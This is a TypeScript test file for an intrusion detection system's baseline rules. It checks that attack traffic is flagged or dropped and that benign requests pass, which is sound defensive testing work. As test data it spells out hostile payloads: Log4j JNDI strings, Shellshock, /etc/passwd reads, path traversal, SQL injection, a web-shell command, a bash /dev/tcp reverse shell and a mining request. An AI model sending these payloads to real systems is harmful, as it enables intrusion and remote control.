import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { createIds } from '#inspectors/ids/ids.ts'
import { BASELINE_FOLDER } from '#signatures/sources/baseline.ts'
import { get, inspect, page, post } from './inspect.ts'

const ids = createIds({ mode: 'block', rulePaths: [BASELINE_FOLDER], now: () => 0 })
const FORM = 'application/x-www-form-urlencoded'

interface Case {
  readonly sid: number
  readonly kind: 'drop' | 'pass'
  readonly name: string
  readonly request: string
  readonly response?: string
}

const CASES: readonly Case[] = [
  { sid: 8800001, kind: 'drop', name: 'Log4j in the target', request: get('/?a=${jndi:ldap://x}') },
  {
    sid: 8800002,
    kind: 'drop',
    name: 'Log4j in a header',
    request: get('/', 'X-A: ${JNDI:ldap://x}'),
  },
  {
    sid: 8800003,
    kind: 'drop',
    name: 'Log4j in a body',
    request: post(FORM, 'a=${jndi:ldap://x}'),
  },
  { sid: 8800004, kind: 'drop', name: 'Shellshock', request: get('/', 'X-A: () { :; }; id') },
  { sid: 8800005, kind: 'drop', name: 'the password file', request: get('/?file=/etc/passwd') },
  { sid: 8800006, kind: 'drop', name: 'encoded traversal', request: get('/%2e%2e%2f%2E%2E%2fx') },
  {
    sid: 8800009,
    kind: 'drop',
    name: 'PHPUnit',
    request: get('/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php'),
  },
  { sid: 8800011, kind: 'drop', name: 'a path parameter', request: get('/tmui/login.jsp/..;/x') },
  { sid: 8800012, kind: 'drop', name: 'a web shell', request: get('/up/a.php?cmd=id') },
  {
    sid: 8800013,
    kind: 'drop',
    name: 'UNION SELECT',
    request: get('/?id=1%20union%20all%20select%201'),
  },
  { sid: 8800014, kind: 'drop', name: 'a delay', request: get('/?id=1%20and%20sleep(5)') },
  { sid: 8800015, kind: 'pass', name: 'a script', request: get('/?q=%3Cscript%3E') },
  {
    sid: 8800100,
    kind: 'pass',
    name: 'sqlmap',
    request: get('/').replace('Mozilla/5.0', 'sqlmap/1.8'),
  },
  { sid: 8800105, kind: 'pass', name: 'a Git repository', request: get('/.git/HEAD') },
  { sid: 8800106, kind: 'pass', name: 'an environment file', request: get('/.env') },
  { sid: 8800107, kind: 'pass', name: 'TRACE', request: get('/').replace('GET', 'TRACE') },
  {
    sid: 8800207,
    kind: 'pass',
    name: 'a clear password',
    request: get('/', 'Authorization: Basic YTpi'),
  },
  {
    sid: 8800208,
    kind: 'drop',
    name: 'cloud metadata',
    request: get('/').replace('www.example.test', '169.254.169.254'),
  },
  {
    sid: 8800200,
    kind: 'drop',
    name: 'a private key',
    request: get('/'),
    response: page('-----BEGIN RSA PRIVATE KEY-----'),
  },
  {
    sid: 8800201,
    kind: 'drop',
    name: 'a password file',
    request: get('/'),
    response: page('root:x:0:0:root:/root:/bin/sh'),
  },
  {
    sid: 8800202,
    kind: 'pass',
    name: 'a listing',
    request: get('/'),
    response: page('<title>Index of /</title>'),
  },
  {
    sid: 8800204,
    kind: 'drop',
    name: 'EICAR',
    request: get('/'),
    response: page(
      ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', 'STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('-'),
    ),
  },
  {
    sid: 8800206,
    kind: 'pass',
    name: 'a program',
    request: get('/'),
    response: page('\x7fELF\x02'),
  },
  {
    sid: 8800300,
    kind: 'drop',
    name: 'a reverse shell',
    request: 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n',
  },
  {
    sid: 8800304,
    kind: 'drop',
    name: 'a miner',
    request: '{"id":1,"method":"mining.subscribe","params":[]}\n',
  },
]

describe('baseline.rules', () => {
  test('every rule is loaded', () => {
    assert.deepEqual(ids.warnings, [])
    assert.ok(ids.ruleCount >= 50)
  })

  for (const { sid, kind, name, request, response } of CASES) {
    test(`${sid} sees ${name}${kind === 'drop' ? ' and drops' : ''}`, () => {
      const outcome = inspect(ids, request, response)
      assert.ok(outcome.rules.includes(sid), `alerts of ${outcome.rules.join(', ')}`)
      assert.equal(outcome.kind, kind)
    })
  }

  for (const [name, request, response] of [
    ['a page', get('/products/42?sort=price'), page('<p>Hello</p>')],
    ['a search', get('/?q=select%20a%20union%20from%20the%20list'), undefined],
    ['a form', post(FORM, 'name=O%27Brien&text=how+to+sleep+%285+hours%29'), undefined],
    ['a public key', get('/key'), page('-----BEGIN PUBLIC KEY-----\nMIIB')],
  ] as const) {
    test(`says nothing of ${name}`, () => {
      assert.deepEqual(inspect(ids, request, response), { rules: [], kind: 'pass', error: null })
    })
  }
})
